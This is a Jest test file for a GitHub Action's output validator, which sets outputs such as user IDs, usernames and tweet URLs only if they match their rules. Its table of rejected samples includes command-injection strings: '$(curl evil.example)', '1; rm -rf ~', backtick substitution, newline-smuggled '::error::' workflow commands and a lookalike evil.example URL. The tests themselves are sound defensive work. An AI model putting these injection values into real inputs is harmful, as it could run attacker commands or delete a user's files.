/** Outputs are checked against their form before they are set: later steps put them into scripts and URLs. */
import { expect, test } from '@jest/globals'
import { checkOutputs, OUTPUT_RULES } from '../../src/report/outputs.js'
import { loadAction } from '../../tools/docs.js'

test('every output of action.yml has its rule, and no rule is for an output action.yml does not have', () => {
  expect(Object.keys(OUTPUT_RULES).sort()).toEqual(Object.keys(loadAction().outputs).sort())
})

test.each([
  ['user-id', '1846203957715066880', '1846203957715066880\n::error::x'],
  ['username', 'release_bot', '$(curl evil.example)'],
  ['tweet-id', '', '1; rm -rf ~'],
  ['tweet-url', 'https://x.com/release_bot/status/1', 'https://evil.example/release_bot/status/1'],
  ['tweet-ids', '["1","2"]', '["1","2"],"3"'],
  ['access-level', 'read-write', 'read-write ::error::x'],
  ['scopes', 'tweet.read users.read', 'tweet.read `x`'],
  ['name', 'Release Bot 🚀 ${{ x }}', 'Release\nBot'],
  ['verified', 'true', 'yes'],
  ['bearer-valid', '', 'maybe']
])('%s: %j is set, %j is not', (name, good, bad) => {
  expect(checkOutputs({ [name]: good })).toEqual({ outputs: { [name]: good }, refused: [] })
  expect(checkOutputs({ [name]: bad })).toEqual({ outputs: { [name]: '' }, refused: [name] })
})

test('an output no rule knows is not set', () => {
  expect(checkOutputs({ 'new-output': 'x' })).toEqual({ outputs: { 'new-output': '' }, refused: ['new-output'] })
})
